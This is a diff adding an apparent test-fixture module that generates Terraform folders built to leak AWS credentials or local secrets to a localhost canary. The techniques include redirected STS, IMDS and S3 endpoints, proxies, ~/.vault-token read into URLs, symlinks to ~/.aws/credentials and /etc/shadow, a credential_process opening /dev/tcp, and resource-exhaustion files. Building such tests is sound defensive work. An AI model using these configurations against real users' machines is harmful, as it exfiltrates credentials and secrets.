@@ -1,0 +1,173 @@
+"""The hostile folders: name -> function (folder, port of the canary) that fills the folder in."""
+import os
+
+ALL, LEFT = {}, []
+WITHOUT_KEYS = set()
+USE = 'data "aws_caller_identity" "me" {}\n'
+REGION = '  region = "eu-west-1"\n'
+
+
+def put(folder, name, text):
+    path = os.path.join(folder, name)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "w" if isinstance(text, str) else "wb", **({"encoding": "utf-8"} if isinstance(text, str) else {})) as f:
+        f.write(text)
+
+
+def provider(folder, inside, more=""):
+    put(folder, "main.tf", 'provider "aws" {\n%s%s\n}\n%s%s' % (REGION if "region" not in inside else "", inside, USE, more))
+
+
+def block(name, inside, more=""):
+    ALL[name] = lambda folder, port: provider(folder, inside.replace("PORT", str(port)), more.replace("PORT", str(port)))
+
+
+def backend(name, inside):
+    ALL[name] = lambda folder, port: put(folder, "main.tf", 'terraform {\n  backend "s3" {\n    bucket = "b-1"\n    key = "k"\n%s%s\n  }\n}\n%s' % (
+        REGION, inside.replace("PORT", str(port)), USE))
+
+
+def folder_of(name):
+    def remember(make):
+        ALL[name] = make
+        return make
+    return remember
+
+
+# ---- every setting that leads elsewhere ----
+HOST = "http://127.0.0.1:PORT"
+block("endpoint", 'endpoints {\n sts = "%s"\n}' % HOST)
+block("endpoint-localhost", 'endpoints {\n sts = "http://localhost:PORT"\n}')
+block("endpoint-ipv6", 'endpoints {\n sts = "http://[::1]:PORT"\n}')
+block("endpoint-computed", 'endpoints {\n sts = join("", ["http://", local.h])\n}', 'locals {\n h = "127.0.0.1:PORT"\n}\n')
+block("endpoint-variable", 'endpoints {\n sts = var.h\n}', 'variable "h" {\n default = "%s"\n}\n' % HOST)
+block("endpoint-user-info", 'endpoints {\n sts = "http://sts.amazonaws.com@127.0.0.1:PORT"\n}')
+block("endpoint-backslash", 'endpoints {\n sts = "http://127.0.0.1:PORT\\\\@sts.amazonaws.com"\n}')
+block("endpoint-iam", 'skip_credentials_validation = true\nendpoints {\n iam = "%s"\n sts = "%s"\n}' % (HOST, HOST))
+block("endpoint-role", 'assume_role {\n role_arn = "arn:aws:iam::111122223333:role/x"\n}\nendpoints {\n sts = "%s"\n}' % HOST)
+block("proxy-http", 'http_proxy = "%s"\nendpoints {\n sts = "http://sts.eu-west-1.amazonaws.com"\n}' % HOST)
+block("proxy-https", 'https_proxy = "%s"' % HOST)
+block("proxy-insecure", 'https_proxy = "%s"\ninsecure = true' % HOST)
+block("insecure", "insecure = true")
+block("imds", 'ec2_metadata_service_endpoint = "%s"' % HOST)
+block("imds-no-keys", 'ec2_metadata_service_endpoint = "%s"\nskip_metadata_api_check = "false"\nprofile = "nobody"\nshared_config_files = ["config"]' % HOST)
+backend("backend-endpoints", 'endpoints = {\n sts = "%s"\n s3 = "%s"\n}' % (HOST, HOST))
+backend("backend-endpoint-flat", 'endpoint = "%s"\nsts_endpoint = "%s"' % (HOST, HOST))
+backend("backend-bucket-host", 'endpoints = {\n s3 = "%s/x"\n}' % HOST)
+backend("backend-proxy", 'http_proxy = "%s"\nendpoints = {\n sts = "http://sts.eu-west-1.amazonaws.com"\n}' % HOST)
+
+
+@folder_of("tfvars")
+def tfvars(folder, port):
+    provider(folder, "endpoints {\n sts = var.h\n}", 'variable "h" {}\n')
+    put(folder, "terraform.tfvars", 'h = "http://127.0.0.1:%d"\n' % port)
+
+
+@folder_of("remote-state")
+def remote_state(folder, port):
+    url = "http://127.0.0.1:%d" % port
+    put(folder, "main.tf", 'data "terraform_remote_state" "x" {\n backend = "s3"\n config = {\n bucket = "b-1"\n key = "k"\n region = "eu-west-1"\n'
+        'endpoints = { sts = "%s", s3 = "%s" }\n }\n}\n' % (url, url))
+
+
+@folder_of("saved-backend")
+def saved_backend(folder, port):
+    url = "http://127.0.0.1:%d" % port
+    put(folder, "main.tf", 'terraform {\n backend "s3" {}\n}\n' + USE)
+    put(folder, ".terraform/terraform.tfstate", '{"version":3,"backend":{"type":"s3","config":{"bucket":"b-1","key":"k","region":"eu-west-1",'
+        '"endpoints":{"sts":"%s","s3":"%s"}},"hash":1}}' % (url, url))
+
+
+def shared(name, text, credentials=None):
+    def make(folder, port):
+        provider(folder, 'shared_config_files = ["cfg"]\n' + ('shared_credentials_files = ["%s"]\n' % credentials if credentials else ""))
+        put(folder, "cfg", text.replace("PORT", str(port)))
+        if credentials == "linked":
+            os.symlink("../home/.aws/credentials", os.path.join(folder, "linked"))
+    ALL[name] = make
+
+
+shared("shared-endpoint-url", "[default]\nendpoint_url = %s\n" % HOST)
+shared("shared-services", "[default]\nservices = s\n[services s]\nsts =\n  endpoint_url = %s\n" % HOST)
+shared("shared-imds", "[default]\nec2_metadata_service_endpoint = %s\n" % HOST)
+shared("linked-credentials", "[default]\nendpoint_url = %s\n" % HOST, "linked")
+shared("home-credentials", "[default]\nendpoint_url = %s\n" % HOST, "~/.aws/credentials")
+WITHOUT_KEYS.update({"linked-credentials", "home-credentials", "imds-no-keys"})
+
+# ---- what is made from files of the user's ----
+for kind, expression in {
+    "file": 'file("~/.vault-token")', "dots": 'file("../home/.vault-token")', "template": 'templatefile("~/.vault-token", {})',
+    "base64": 'filebase64("~/.vault-token")', "hash": 'filesha256("../home/.vault-token")', "link": 'file("link")',
+    "condition": '(fileexists("~/.vault-token") ? "yes" : "no")', "try": 'try(file("~/short"), "no")',
+}.items():
+    def taint(folder, port, expression=expression):
+        os.symlink("../home/.vault-token", os.path.join(folder, "link"))
+        url = 'endpoints {\n sts = "http://127.0.0.1:%d/${urlencode(%s)}"\n}\naccess_key = "mock"\nsecret_key = "mock"' % (port, expression)
+        provider(folder, url)
+    ALL["taint-url-" + kind] = taint
+for argument in ("profile", "region", "access_key", "token", "custom_ca_bundle", "https_proxy", "sts_region"):
+    block("taint-" + argument, '%s = trimspace(file("~/.vault-token"))' % argument)
+block("taint-session-name", 'assume_role {\n role_arn = "arn:aws:iam::111122223333:role/x"\n session_name = file("~/short")\n}')
+block("taint-external-id", 'assume_role {\n role_arn = "arn:aws:iam::111122223333:role/x"\n external_id = file("~/short")\n}')
+backend("taint-backend", 'profile = file("~/short")')
+
+# ---- odd files ----
+
+
+@folder_of("links")
+def links(folder, port):
+    provider(folder, "")
+    os.symlink("loop", os.path.join(folder, "loop"))
+    os.symlink("/dev/zero", os.path.join(folder, "zero.tf"))
+    os.symlink("/etc/shadow", os.path.join(folder, "terraform.tfvars"))
+
+
+@folder_of("fifo")
+def fifo(folder, port):
+    provider(folder, "")
+    os.mkfifo(os.path.join(folder, "b.tf"))
+    os.mkfifo(os.path.join(folder, ".terraform.lock.hcl"))
+
+
+@folder_of("sparse")
+def sparse(folder, port):
+    provider(folder, "")
+    with open(os.path.join(folder, "big.tf"), "wb") as f:
+        f.truncate(1 << 33)
+
+
+@folder_of("nested-blocks")
+def nested(folder, port):
+    put(folder, "main.tf", "a {" * 100000)
+
+
+@folder_of("nested-lists")
+def nested_lists(folder, port):
+    provider(folder, "profile = " + "[" * 50000 + "]" * 50000)
+
+
+@folder_of("source-profile-loop")
+def profile_loop(folder, port):
+    provider(folder, 'profile = "a"\nshared_config_files = ["cfg"]')
+    put(folder, "cfg", "[profile a]\nrole_arn = arn:aws:iam::111122223333:role/x\nsource_profile = b\n"
+        "[profile b]\nrole_arn = arn:aws:iam::111122223333:role/x\nsource_profile = a\n")
+
+
+@folder_of("module-loop")
+def module_loop(folder, port):
+    provider(folder, "", 'module "m" {\n source = "./"\n}\n')
+
+
+@folder_of("process")
+def process(folder, port):
+    provider(folder, 'profile = "p"\nshared_config_files = ["cfg"]')
+    put(folder, "cfg", "[profile p]\ncredential_process = /bin/sh -c 'exec 3<>/dev/tcp/127.0.0.1/%d; echo x >&3'\n" % port)
+
+
+WITHOUT_KEYS.add("process")
+
+
+@folder_of("process-relative")
+def process_relative(folder, port):
+    provider(folder, 'profile = "p"\nshared_config_files = ["cfg"]')
+    put(folder, "cfg", "[profile p]\ncredential_process = ./steal\n")
